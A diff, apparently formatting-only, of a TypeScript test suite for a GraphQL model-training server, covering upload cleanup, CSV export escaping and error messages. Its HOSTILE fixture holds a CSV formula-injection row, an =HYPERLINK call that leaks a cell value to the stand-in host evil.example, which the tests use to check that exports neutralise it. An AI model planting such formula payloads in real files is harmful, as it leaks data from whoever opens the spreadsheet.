@@ -14,41 +14,93 @@ async function multipart(server: TestServer, query: string, variables: Record<st
   form.set('operations', JSON.stringify({ query, variables: { ...variables, file: null } }));
   form.set('map', JSON.stringify({ 0: ['variables.file'] }));
   form.set('0', new Blob([csv]), 'rows.csv');
-  const response = await fetch(`${server.url}/graphql`, { method: 'POST', body: form, headers: { 'graphql-preflight': '1' } });
-  return (await response.json()) as { data?: Record<string, { id: string; csvUrl?: string }> | null; errors?: { message: string; extensions?: { code?: string; field?: string } }[] };
+  const response = await fetch(`${server.url}/graphql`, {
+    method: 'POST',
+    body: form,
+    headers: { 'graphql-preflight': '1' },
+  });
+  return (await response.json()) as {
+    data?: Record<string, { id: string; csvUrl?: string }> | null;
+    errors?: { message: string; extensions?: { code?: string; field?: string } }[];
+  };
 }
 
-const HOSTILE = ['object_id,period,depth,label', '=HYPERLINK("http://evil.example/?leak="&A1;"click"),1.5,120,planet', '@SUM(1+1),2.5,900,false_positive', '-12,3.5,130,planet'];
-const rowsCsv = (n: number) => [HOSTILE[0], ...Array.from({ length: n }, (_, i) => `obj-${i},${1 + (i % 17)},${i % 2 === 0 ? 100 + i : 900 + i},${i % 2 === 0 ? 'planet' : 'false_positive'}`), ...HOSTILE.slice(1)].join('\n') + '\n';
+const HOSTILE = [
+  'object_id,period,depth,label',
+  '=HYPERLINK("http://evil.example/?leak="&A1;"click"),1.5,120,planet',
+  '@SUM(1+1),2.5,900,false_positive',
+  '-12,3.5,130,planet',
+];
+const rowsCsv = (n: number) =>
+  [
+    HOSTILE[0],
+    ...Array.from(
+      { length: n },
+      (_, i) =>
+        `obj-${i},${1 + (i % 17)},${i % 2 === 0 ? 100 + i : 900 + i},${i % 2 === 0 ? 'planet' : 'false_positive'}`,
+    ),
+    ...HOSTILE.slice(1),
+  ].join('\n') + '\n';
 
 describe('partial files and CSV exports', () => {
   let server: TestServer;
   let runId: string;
   beforeAll(async () => {
     server = await startServer();
-    const uploaded = await multipart(server, 'mutation ($file: File!) { uploadDataset(file: $file) { id } }', {}, rowsCsv(60));
+    const uploaded = await multipart(
+      server,
+      'mutation ($file: File!) { uploadDataset(file: $file) { id } }',
+      {},
+      rowsCsv(60),
+    );
     const datasetId = uploaded.data!.uploadDataset.id;
     const { createSession } = await server.data<{ createSession: { id: string } }>('mutation { createSession { id } }');
-    await server.data('mutation ($input: ConfigureSessionInput!) { configureSession(input: $input) { id } }', { input: { sessionId: createSession.id, datasetId, modelType: 'decision_tree' } });
-    runId = (await server.data<{ startTraining: { id: string } }>('mutation ($s: ID!) { startTraining(sessionId: $s) { id } }', { s: createSession.id })).startTraining.id;
+    await server.data('mutation ($input: ConfigureSessionInput!) { configureSession(input: $input) { id } }', {
+      input: { sessionId: createSession.id, datasetId, modelType: 'decision_tree' },
+    });
+    runId = (
+      await server.data<{ startTraining: { id: string } }>(
+        'mutation ($s: ID!) { startTraining(sessionId: $s) { id } }',
+        { s: createSession.id },
+      )
+    ).startTraining.id;
     expect(await waitForRun(server, runId, 60_000)).toBe('SUCCEEDED');
   }, 90_000);
   afterAll(() => server.stop());
 
   it('a refused predictBatch leaves no .part file in the upload folder', async () => {
     const before = fs.readdirSync(server.config.uploadDir);
-    const refused = await multipart(server, 'mutation ($r: ID!, $file: File) { predictBatch(runId: $r, file: $file, candidatesOnly: true) { id } }', { r: runId }, rowsCsv(5));
+    const refused = await multipart(
+      server,
+      'mutation ($r: ID!, $file: File) { predictBatch(runId: $r, file: $file, candidatesOnly: true) { id } }',
+      { r: runId },
+      rowsCsv(5),
+    );
     expect(refused.errors?.[0].extensions).toMatchObject({ code: 'BAD_USER_INPUT', field: 'candidatesOnly' });
-    const bad = await multipart(server, 'mutation ($r: ID!, $file: File) { predictBatch(runId: $r, file: $file) { id } }', { r: runId }, 'not,a\ncsv\u0000\n');
+    const bad = await multipart(
+      server,
+      'mutation ($r: ID!, $file: File) { predictBatch(runId: $r, file: $file) { id } }',
+      { r: runId },
+      'not,a\ncsv\u0000\n',
+    );
     expect(bad.errors?.[0].extensions?.code).toMatch(/BAD_USER_INPUT|UNSUPPORTED_MEDIA_TYPE/);
     expect(fs.readdirSync(server.config.uploadDir)).toEqual(before);
   });
 
   it('the CSV export neutralises formula cells and keeps plain numbers', async () => {
-    const batch = await multipart(server, 'mutation ($r: ID!, $file: File) { predictBatch(runId: $r, file: $file) { id csvUrl } }', { r: runId }, rowsCsv(3));
+    const batch = await multipart(
+      server,
+      'mutation ($r: ID!, $file: File) { predictBatch(runId: $r, file: $file) { id csvUrl } }',
+      { r: runId },
+      rowsCsv(3),
+    );
     expect(batch.errors).toBeUndefined();
     const csv = await (await fetch(`${server.url}${batch.data!.predictBatch.csvUrl}`)).text();
-    const firstCells = csv.trim().split('\n').slice(1).map((line) => line.split(',')[0]);
+    const firstCells = csv
+      .trim()
+      .split('\n')
+      .slice(1)
+      .map((line) => line.split(',')[0]);
     expect(firstCells).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1;""click"")"`);
     expect(firstCells).toContain("'@SUM(1+1)");
     expect(firstCells).toContain('-12');
@@ -85,20 +137,42 @@ describe('a run that fails on the server says what to do, never a server path', 
   it('an upload whose file vanished before its queued run starts: FAILED with advice, no path, no errno', async () => {
     const server = await startServer({ env: { TRAINING_CONCURRENCY: '1' } });
     try {
-      const uploaded = await multipart(server, 'mutation ($file: File!) { uploadDataset(file: $file) { id } }', {}, rowsCsv(60));
+      const uploaded = await multipart(
+        server,
+        'mutation ($file: File!) { uploadDataset(file: $file) { id } }',
+        {},
+        rowsCsv(60),
+      );
       const datasetId = uploaded.data!.uploadDataset.id;
       const start = async (input: Record<string, unknown>) => {
-        const { createSession } = await server.data<{ createSession: { id: string } }>('mutation { createSession { id } }');
-        await server.data('mutation ($input: ConfigureSessionInput!) { configureSession(input: $input) { id } }', { input: { sessionId: createSession.id, ...input } });
-        return (await server.data<{ startTraining: { id: string } }>('mutation ($s: ID!) { startTraining(sessionId: $s) { id } }', { s: createSession.id })).startTraining.id;
+        const { createSession } = await server.data<{ createSession: { id: string } }>(
+          'mutation { createSession { id } }',
+        );
+        await server.data('mutation ($input: ConfigureSessionInput!) { configureSession(input: $input) { id } }', {
+          input: { sessionId: createSession.id, ...input },
+        });
+        return (
+          await server.data<{ startTraining: { id: string } }>(
+            'mutation ($s: ID!) { startTraining(sessionId: $s) { id } }',
+            { s: createSession.id },
+          )
+        ).startTraining.id;
       };
       // The only training slot is busy, so the upload's run waits in the queue while its file disappears.
-      const busy = await start({ datasetId: 'kepler', modelType: 'random_forest', hyperparameters: { n_estimators: 1000 } });
+      const busy = await start({
+        datasetId: 'kepler',
+        modelType: 'random_forest',
+        hyperparameters: { n_estimators: 1000 },
+      });
       const queued = await start({ datasetId, modelType: 'decision_tree' });
-      for (const name of fs.readdirSync(server.config.uploadDir)) if (name.startsWith(datasetId)) fs.rmSync(path.join(server.config.uploadDir, name));
+      for (const name of fs.readdirSync(server.config.uploadDir))
+        if (name.startsWith(datasetId)) fs.rmSync(path.join(server.config.uploadDir, name));
       await server.data('mutation ($r: ID!) { cancelTraining(runId: $r) { id } }', { r: busy });
       expect(await waitForRun(server, queued, 60_000)).toBe('FAILED');
-      const { trainingRun } = await server.data<{ trainingRun: { error: string } }>('query ($r: ID!) { trainingRun(id: $r) { error } }', { r: queued });
+      const { trainingRun } = await server.data<{ trainingRun: { error: string } }>(
+        'query ($r: ID!) { trainingRun(id: $r) { error } }',
+        { r: queued },
+      );
       expect(trainingRun.error).toMatch(/no longer on the server\. Upload it again/);
       expect(trainingRun.error).not.toMatch(/\/|ENOENT|stat|\.csv/);
     } finally {
